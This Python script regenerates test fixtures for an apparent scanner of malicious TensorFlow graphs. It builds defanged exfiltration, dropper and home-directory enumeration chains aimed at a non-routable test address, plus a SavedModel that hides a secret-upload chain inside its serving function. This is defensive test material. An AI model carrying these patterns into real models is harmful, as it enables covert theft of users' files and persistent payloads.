#!/usr/bin/env python3
"""Regenerate the checked-in graph fixtures under tests/fixtures.

Every fixture is hand-built from proto messages: attack-shaped graphs are
defanged by construction (TEST-NET endpoints, /tmp sandbox paths) and none
of them contains executable payloads — they only reproduce the *shape*
that a scanner must recognize.
"""

import sys
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

from google.protobuf import text_format

from chainscan import protodefs as P

FIXTURES = REPO / "tests" / "fixtures"

DT_FLOAT = 1
DT_STRING = 7
DT_INT64 = 9
DT_VARIANT = 21

SANDBOX = "/tmp/scan_sandbox"
ENDPOINT_A = "203.0.113.7:9000"   # TEST-NET-3, never routable
ENDPOINT_B = "203.0.113.7:9001"


def attr_s(value: str):
    a = P.AttrValueProto()
    a.s = value.encode("utf-8")
    return a


def attr_slist(values):
    a = P.AttrValueProto()
    a.list.s.extend(v.encode("utf-8") for v in values)
    return a


def attr_type(dtype: int):
    a = P.AttrValueProto()
    a.type = dtype
    return a


def attr_typelist(dtypes):
    a = P.AttrValueProto()
    a.list.type.extend(dtypes)
    return a


def attr_func(name: str):
    a = P.AttrValueProto()
    a.func.name = name
    return a


def attr_tensor_strings(values):
    a = P.AttrValueProto()
    a.tensor.dtype = DT_STRING
    a.tensor.tensor_shape.dim.add().size = len(values)
    a.tensor.string_val.extend(v.encode("utf-8") for v in values)
    return a


def attr_tensor_int64(values):
    a = P.AttrValueProto()
    a.tensor.dtype = DT_INT64
    a.tensor.tensor_shape.dim.add().size = len(values)
    a.tensor.int64_val.extend(values)
    return a


def attr_tensor_float(values):
    a = P.AttrValueProto()
    a.tensor.dtype = DT_FLOAT
    a.tensor.tensor_shape.dim.add().size = len(values)
    a.tensor.float_val.extend(values)
    return a


def node(graph, name, op, inputs=(), **attrs):
    nd = graph.node.add() if hasattr(graph, "node") else graph.node_def.add()
    nd.name = name
    nd.op = op
    nd.input.extend(inputs)
    for key, value in attrs.items():
        nd.attr[key].CopyFrom(value)
    return nd


def str_const(graph, name, values):
    return node(graph, name, "Const",
                dtype=attr_type(DT_STRING), value=attr_tensor_strings(values))


def int64_const(graph, name, values):
    return node(graph, name, "Const",
                dtype=attr_type(DT_INT64), value=attr_tensor_int64(values))


def float_const(graph, name, values):
    return node(graph, name, "Const",
                dtype=attr_type(DT_FLOAT), value=attr_tensor_float(values))


def reader_chain(graph, out_name, filenames_input):
    """FixedLengthRecordDatasetV2 plus its scalar parameter constants."""
    int64_const(graph, "header_bytes", [0])
    int64_const(graph, "record_bytes", [1])
    int64_const(graph, "footer_bytes", [0])
    int64_const(graph, "buffer_size", [1])
    str_const(graph, "compression", [""])
    return node(
        graph, out_name, "FixedLengthRecordDatasetV2",
        [filenames_input, "header_bytes", "record_bytes",
         "footer_bytes", "buffer_size", "compression"],
    )


def exfil_graphdef():
    g = P.GraphDef()
    g.versions.producer = 1882
    str_const(g, "secret_path", [f"{SANDBOX}/secret.txt"])
    reader_chain(g, "read_secret", "secret_path")
    node(g, "decode_records", "EagerPyFunc", ["read_secret"],
         token=attr_s("pyfunc_0"),
         Tin=attr_typelist([DT_VARIANT]), Tout=attr_typelist([DT_STRING]))
    str_const(g, "endpoint", [ENDPOINT_A])
    int64_const(g, "rpc_timeout", [30000])
    node(g, "open_channel", "RpcClient", ["endpoint", "rpc_timeout"])
    str_const(g, "method", ["UploadFile"])
    node(g, "send_secret", "RpcCall",
         ["open_channel", "method", "decode_records", "rpc_timeout"])
    return g


def dropper_graphdef():
    g = P.GraphDef()
    g.versions.producer = 1882
    str_const(g, "endpoint", [ENDPOINT_B])
    int64_const(g, "rpc_timeout", [30000])
    node(g, "fetch_channel", "RpcClient", ["endpoint", "rpc_timeout"])
    str_const(g, "cmd", ["GET_PAYLOAD"])
    node(g, "fetch_payload", "RpcCall", ["fetch_channel", "cmd", "rpc_timeout"])
    node(g, "stage_payload", "EagerPyFunc", ["fetch_payload"],
         token=attr_s("pyfunc_1"),
         Tin=attr_typelist([DT_STRING]), Tout=attr_typelist([DT_STRING]))
    node(g, "drop_payload", "PrintV2", ["stage_payload"],
         output_stream=attr_s(f"file://{SANDBOX}/home/.bashrc"))
    # home-directory reconnaissance, output consumed at trace time only
    str_const(g, "home_pattern", ["/home/*"])
    node(g, "glob_home", "MatchingFiles", ["home_pattern"])
    return g


def enum_exfil_graphdef():
    g = P.GraphDef()
    g.versions.producer = 1882
    str_const(g, "home_pattern", ["/home/*"])
    node(g, "list_home", "MatchingFiles", ["home_pattern"])
    reader_chain(g, "read_each", "list_home")
    node(g, "send_out", "DebugIdentity", ["read_each"],
         T=attr_type(DT_STRING),
         debug_urls=attr_slist(["grpc://203.0.113.7:9999"]))
    return g


def benign_linear_graphdef():
    g = P.GraphDef()
    g.versions.producer = 1882
    node(g, "x", "Placeholder", dtype=attr_type(DT_FLOAT))
    float_const(g, "weights", [2.0])
    float_const(g, "bias", [0.5])
    node(g, "scaled", "Mul", ["x", "weights"], T=attr_type(DT_FLOAT))
    node(g, "y", "AddV2", ["scaled", "bias"], T=attr_type(DT_FLOAT))
    node(g, "output", "Identity", ["y"], T=attr_type(DT_FLOAT))
    return g


def benign_print_graphdef():
    g = P.GraphDef()
    g.versions.producer = 1882
    node(g, "x", "Placeholder", dtype=attr_type(DT_FLOAT))
    float_const(g, "weights", [2.0])
    node(g, "scaled", "Mul", ["x", "weights"], T=attr_type(DT_FLOAT))
    str_const(g, "step_msg", ["training step done"])
    node(g, "log_step", "PrintV2", ["step_msg"],
         output_stream=attr_s("stderr"), end=attr_s("\n"))
    node(g, "output", "Identity", ["scaled", "^log_step"], T=attr_type(DT_FLOAT))
    return g


def benign_checkpoint_graphdef():
    g = P.GraphDef()
    g.versions.producer = 1882
    str_const(g, "ckpt_prefix", ["checkpoints/model.ckpt"])
    str_const(g, "tensor_names", ["w"])
    str_const(g, "shape_slices", [""])
    float_const(g, "w", [2.0])
    node(g, "save_w", "SaveV2",
         ["ckpt_prefix", "tensor_names", "shape_slices", "w"],
         dtypes=attr_typelist([DT_FLOAT]))
    node(g, "restore_w", "RestoreV2",
         ["ckpt_prefix", "tensor_names", "shape_slices"],
         dtypes=attr_typelist([DT_FLOAT]))
    return g


def recursive_graphdef():
    g = P.GraphDef()
    g.versions.producer = 1882
    float_const(g, "input_data", [1.0])
    node(g, "looper", "StatefulPartitionedCall", ["input_data"],
         f=attr_func("loop_fn"), Tin=attr_typelist([DT_FLOAT]),
         Tout=attr_typelist([DT_FLOAT]))
    fn = g.library.function.add()
    fn.signature.name = "loop_fn"
    arg = fn.signature.input_arg.add()
    arg.name = "x"
    arg.type = DT_FLOAT
    out = fn.signature.output_arg.add()
    out.name = "out"
    out.type = DT_FLOAT
    node(fn, "double_it", "Mul", ["x", "x"], T=attr_type(DT_FLOAT))
    node(fn, "again", "StatefulPartitionedCall", ["double_it:z:0"],
         f=attr_func("loop_fn"), Tin=attr_typelist([DT_FLOAT]),
         Tout=attr_typelist([DT_FLOAT]))
    fn.ret["out"] = "again:output:0"
    return g


def exfil_saved_model():
    sm = P.SavedModel()
    sm.saved_model_schema_version = 1
    mg = sm.meta_graphs.add()
    mg.meta_info_def.tags.append("serve")
    mg.meta_info_def.tensorflow_version = "2.18.0"
    g = mg.graph_def
    g.versions.producer = 1882
    node(g, "feat", "Placeholder", dtype=attr_type(DT_FLOAT))
    float_const(g, "slope", [5.0])
    node(g, "call_model", "StatefulPartitionedCall", ["feat", "slope"],
         f=attr_func("__inference_call_42"),
         Tin=attr_typelist([DT_FLOAT, DT_FLOAT]), Tout=attr_typelist([DT_FLOAT]))
    node(g, "output", "Identity", ["call_model"], T=attr_type(DT_FLOAT))

    fn = g.library.function.add()
    fn.signature.name = "__inference_call_42"
    for arg_name in ("feat_vec", "slope"):
        arg = fn.signature.input_arg.add()
        arg.name = arg_name
        arg.type = DT_FLOAT
    out = fn.signature.output_arg.add()
    out.name = "output_0"
    out.type = DT_FLOAT
    str_const(fn, "secret_path", [f"{SANDBOX}/secret.txt"])
    int64_const(fn, "header_bytes", [0])
    int64_const(fn, "record_bytes", [1])
    int64_const(fn, "footer_bytes", [0])
    int64_const(fn, "buffer_size", [1])
    str_const(fn, "compression", [""])
    node(fn, "read_secret", "FixedLengthRecordDatasetV2",
         ["secret_path:output:0", "header_bytes:output:0", "record_bytes:output:0",
          "footer_bytes:output:0", "buffer_size:output:0", "compression:output:0"])
    node(fn, "decode_records", "EagerPyFunc", ["read_secret:handle:0"],
         token=attr_s("pyfunc_0"),
         Tin=attr_typelist([DT_VARIANT]), Tout=attr_typelist([DT_STRING]))
    str_const(fn, "endpoint", [ENDPOINT_A])
    int64_const(fn, "rpc_timeout", [30000])
    node(fn, "open_channel", "RpcClient", ["endpoint:output:0", "rpc_timeout:output:0"])
    str_const(fn, "method", ["UploadFile"])
    node(fn, "send_secret", "RpcCall",
         ["open_channel:client:0", "method:output:0",
          "decode_records:output:0", "rpc_timeout:output:0"])
    node(fn, "mul", "Mul", ["feat_vec", "slope"], T=attr_type(DT_FLOAT))
    fn.ret["output_0"] = "mul:z:0"

    sig = mg.signature_def["serving_default"]
    sig.method_name = "tensorflow/serving/predict"
    sig.inputs["feat_vec"].name = "feat:0"
    sig.inputs["feat_vec"].dtype = DT_FLOAT
    sig.outputs["output_0"].name = "call_model:0"
    sig.outputs["output_0"].dtype = DT_FLOAT
    return sm


def tiny_saved_model():
    sm = P.SavedModel()
    sm.saved_model_schema_version = 1
    mg = sm.meta_graphs.add()
    mg.meta_info_def.tags.append("serve")
    g = mg.graph_def
    float_const(g, "answer", [42.0])
    sig = mg.signature_def["serving_default"]
    sig.method_name = "tensorflow/serving/predict"
    sig.outputs["out"].name = "answer:0"
    sig.outputs["out"].dtype = DT_FLOAT
    return sm


def write_binary(path: Path, msg) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(msg.SerializeToString(deterministic=True))
    print(f"wrote {path.relative_to(REPO)} ({path.stat().st_size} bytes)")


def write_text(path: Path, msg) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text_format.MessageToString(msg), encoding="utf-8")
    print(f"wrote {path.relative_to(REPO)} ({path.stat().st_size} bytes)")


def write_saved_model_dir(root: Path, sm) -> None:
    (root / "variables").mkdir(parents=True, exist_ok=True)
    (root / "variables" / "variables.index").write_bytes(b"")
    write_binary(root / "saved_model.pb", sm)


def main() -> int:
    write_binary(FIXTURES / "exfil_chain.pb", exfil_graphdef())
    write_binary(FIXTURES / "dropper_chain.pb", dropper_graphdef())
    write_text(FIXTURES / "enum_exfil_chain.pbtxt", enum_exfil_graphdef())
    write_text(FIXTURES / "benign_linear.pbtxt", benign_linear_graphdef())
    write_text(FIXTURES / "benign_print_stderr.pbtxt", benign_print_graphdef())
    write_text(FIXTURES / "benign_checkpoint.pbtxt", benign_checkpoint_graphdef())
    write_text(FIXTURES / "recursive_calls.pbtxt", recursive_graphdef())
    write_saved_model_dir(FIXTURES / "exfil_savedmodel", exfil_saved_model())
    write_saved_model_dir(FIXTURES / "tiny_savedmodel", tiny_saved_model())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
